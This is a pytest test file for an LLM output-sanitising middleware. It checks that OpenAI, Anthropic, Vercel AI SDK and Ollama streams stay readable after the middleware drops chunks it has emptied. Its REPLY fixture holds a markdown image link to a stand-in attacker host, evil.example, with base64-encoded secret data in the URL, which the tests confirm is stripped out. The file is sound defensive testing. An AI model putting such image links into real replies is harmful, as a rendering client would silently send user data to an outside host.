"""Chunks whose only text the middleware emptied (an image held back across many
tokens, then removed) are not sent, and the official SDKs, against a real uvicorn
server, still read every stream: the first chunk and its role, tool calls, finish and
stop reasons, usage, and the text, which is the reply's one-shot sanitisation."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator
from typing import Any

import anthropic
import httpx
import openai
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import StreamingResponse
from starlette.routing import Route

from rendersafe import Policy, Sanitizer
from rendersafe.middleware import RenderSafeMiddleware
from servers import Server
from wire_clients import read

REPLY = (
    "Here is the chart: ![chart](https://evil.example/c.png?d=c2VjcmV0IGtleSBpcyA0Mg) "
    "and the numbers.\n\nAll done."
)
SAFE = Sanitizer(Policy()).run(REPLY).text
TOKENS = [REPLY[i : i + 4] for i in range(0, len(REPLY), 4)]
ARGUMENTS = ['{"ci', 'ty": ', '"Paris"}']
SENT: dict[str, int] = {}  # events (or lines) the backend sent, per path


def _dumps(data: Any) -> str:
    return json.dumps(data, separators=(",", ":"))


def _chat() -> Iterator[str]:
    head = {"id": "chatcmpl-9", "object": "chat.completion.chunk", "created": 1, "model": "m"}

    def chunk(delta: dict[str, Any], finish: str | None = None, **more: Any) -> str:
        choice = {"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}
        return _dumps({**head, "choices": [choice], "usage": None, **more})

    yield chunk({"role": "assistant", "content": ""})
    for token in TOKENS:
        yield chunk({"content": token})
    call = {"index": 0, "id": "call_1", "type": "function"}
    yield chunk({"tool_calls": [{**call, "function": {"name": "weather", "arguments": ""}}]})
    for part in ARGUMENTS:
        yield chunk({"tool_calls": [{"index": 0, "function": {"arguments": part}}]})
    yield chunk({}, "tool_calls")
    usage = {"prompt_tokens": 5, "completion_tokens": len(TOKENS), "total_tokens": 5 + len(TOKENS)}
    yield _dumps({**head, "choices": [], "usage": usage})
    yield "[DONE]"


def _anthropic() -> Iterator[tuple[str, dict[str, Any]]]:
    message: dict[str, Any] = {
        "id": "msg_9",
        "type": "message",
        "role": "assistant",
        "model": "claude",
        "content": [],
        "stop_reason": None,
        "stop_sequence": None,
        "usage": {"input_tokens": 5, "output_tokens": 1},
    }
    yield "message_start", {"type": "message_start", "message": message}
    text = {"type": "text", "text": ""}
    yield "content_block_start", {"type": "content_block_start", "index": 0, "content_block": text}
    for token in TOKENS:
        delta = {"type": "text_delta", "text": token}
        yield "content_block_delta", {"type": "content_block_delta", "index": 0, "delta": delta}
    yield "content_block_stop", {"type": "content_block_stop", "index": 0}
    tool = {"type": "tool_use", "id": "toolu_1", "name": "weather", "input": {}}
    yield "content_block_start", {"type": "content_block_start", "index": 1, "content_block": tool}
    for part in ARGUMENTS:
        delta = {"type": "input_json_delta", "partial_json": part}
        yield "content_block_delta", {"type": "content_block_delta", "index": 1, "delta": delta}
    yield "content_block_stop", {"type": "content_block_stop", "index": 1}
    stop = {"stop_reason": "tool_use", "stop_sequence": None}
    usage = {"output_tokens": len(TOKENS)}
    yield "message_delta", {"type": "message_delta", "delta": stop, "usage": usage}
    yield "message_stop", {"type": "message_stop"}


def _ai_sdk() -> Iterator[str]:
    yield _dumps({"type": "start", "messageId": "m9"})
    yield _dumps({"type": "text-start", "id": "t1"})
    for token in TOKENS:
        yield _dumps({"type": "text-delta", "id": "t1", "delta": token})
    yield _dumps({"type": "text-end", "id": "t1"})
    yield _dumps({"type": "finish"})
    yield "[DONE]"


def _ollama() -> Iterator[str]:
    envelope = {"model": "llama3", "created_at": "2024-01-01T00:00:00Z"}
    for token in TOKENS:
        message = {"role": "assistant", "content": token}
        yield _dumps({**envelope, "message": message, "done": False})
    message = {"role": "assistant", "content": ""}
    yield _dumps({**envelope, "message": message, "done": True, "eval_count": len(TOKENS)})


async def _each(path: str, frames: list[bytes]) -> AsyncIterator[bytes]:
    SENT[path] = len(frames)
    for frame in frames:
        yield frame  # one body message each, as a model server streams


def _app() -> RenderSafeMiddleware:
    async def chat(request: Request) -> StreamingResponse:
        await request.body()
        frames = [f"data: {data}\n\n".encode() for data in _chat()]
        return StreamingResponse(_each("chat", frames), media_type="text/event-stream")

    async def messages(request: Request) -> StreamingResponse:
        await request.body()
        frames = [f"event: {n}\ndata: {_dumps(d)}\n\n".encode() for n, d in _anthropic()]
        return StreamingResponse(_each("messages", frames), media_type="text/event-stream")

    async def ui(request: Request) -> StreamingResponse:
        frames = [f"data: {data}\n\n".encode() for data in _ai_sdk()]
        return StreamingResponse(_each("ui", frames), media_type="text/event-stream")

    async def ollama(request: Request) -> StreamingResponse:
        frames = [f"{line}\n".encode() for line in _ollama()]
        return StreamingResponse(_each("ollama", frames), media_type="application/x-ndjson")

    routes = [
        Route("/v1/chat/completions", chat, methods=["POST"]),
        Route("/v1/messages", messages, methods=["POST"]),
        Route("/api/ui", ui, methods=["POST"]),
        Route("/api/chat", ollama, methods=["POST"]),
    ]
    return RenderSafeMiddleware(Starlette(routes=routes), policy=Policy())


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    with Server(_app()) as running:
        yield running


def test_the_openai_sdk_reads_a_stream_with_emptied_chunks_dropped(server: Server) -> None:
    client = openai.OpenAI(base_url=server.url + "/v1", api_key="sk-test", max_retries=0)
    with client:
        stream = client.chat.completions.create(
            model="m", messages=[{"role": "user", "content": "chart?"}], stream=True
        )
        chunks = list(stream)
    assert len(chunks) < SENT["chat"] - 1 - 5  # [DONE] is no chunk; at least 5 dropped
    first = chunks[0].choices[0].delta
    assert first.role == "assistant"
    assert first.content == ""
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    assert text == SAFE
    assert "evil.example" not in text
    calls = [call for c in chunks if c.choices for call in c.choices[0].delta.tool_calls or []]
    assert calls[0].id == "call_1"
    assert calls[0].function is not None
    assert calls[0].function.name == "weather"
    arguments = "".join(call.function.arguments or "" for call in calls if call.function)
    assert json.loads(arguments) == {"city": "Paris"}
    finishes = [c.choices[0].finish_reason for c in chunks if c.choices]
    assert finishes.count("tool_calls") == 1
    assert chunks[-1].usage is not None
    assert chunks[-1].usage.completion_tokens == len(TOKENS)


def test_the_openai_sdk_stream_helper_accumulates_it(server: Server) -> None:
    client = openai.OpenAI(base_url=server.url + "/v1", api_key="sk-test", max_retries=0)
    with (
        client,
        client.chat.completions.stream(
            model="m", messages=[{"role": "user", "content": "chart?"}]
        ) as stream,
    ):
        final = stream.get_final_completion()
    message = final.choices[0].message
    assert message.role == "assistant"
    assert message.content == SAFE
    assert message.tool_calls is not None
    call = message.tool_calls[0]
    assert call.type == "function"
    assert call.function.name == "weather"
    assert json.loads(call.function.arguments) == {"city": "Paris"}
    assert final.choices[0].finish_reason == "tool_calls"
    assert final.usage is not None
    assert final.usage.completion_tokens == len(TOKENS)


def test_the_anthropic_sdk_reads_a_stream_with_emptied_deltas_dropped(server: Server) -> None:
    client = anthropic.Anthropic(base_url=server.url, api_key="sk-ant-test", max_retries=0)
    prompt: list[anthropic.types.MessageParam] = [{"role": "user", "content": "chart?"}]
    with (
        client,
        client.messages.stream(model="claude", max_tokens=64, messages=prompt) as stream,
    ):
        events = list(stream)
        final = stream.get_final_message()
    deltas = [e for e in events if e.type == "content_block_delta"]
    assert len(deltas) < len(TOKENS) + len(ARGUMENTS) - 5
    assert events[0].type == "message_start"
    assert final.id == "msg_9"
    assert final.role == "assistant"
    first, tool = final.content
    assert first.type == "text"
    assert first.text == SAFE
    assert tool.type == "tool_use"
    assert tool.name == "weather"
    assert tool.input == {"city": "Paris"}
    assert final.stop_reason == "tool_use"
    assert final.usage.output_tokens == len(TOKENS)


def test_ai_sdk_and_ollama_streams_read_with_emptied_parts_dropped(server: Server) -> None:
    with httpx.Client(base_url=server.url) as client:
        ui = client.post("/api/ui", json={"messages": []}).text
        lines = client.post("/api/chat", json={"model": "llama3"}).text.splitlines()
    assert read("ai-sdk", ui).texts == {("text-delta", "t1"): SAFE}
    assert ui.count("data: ") < SENT["ui"] - 5
    assert ui.startswith('data: {"type":"start"')
    assert ui.endswith("data: [DONE]\n\n")
    parsed = [json.loads(line) for line in lines]
    assert "".join(p["message"]["content"] for p in parsed) == SAFE
    assert len(parsed) < SENT["ollama"] - 5
    # The first line is sent, though its token is held back: a client learns the role.
    assert parsed[0]["message"] == {"role": "assistant", "content": ""}
    assert parsed[-1]["done"] is True
    assert parsed[-1]["eval_count"] == len(TOKENS)
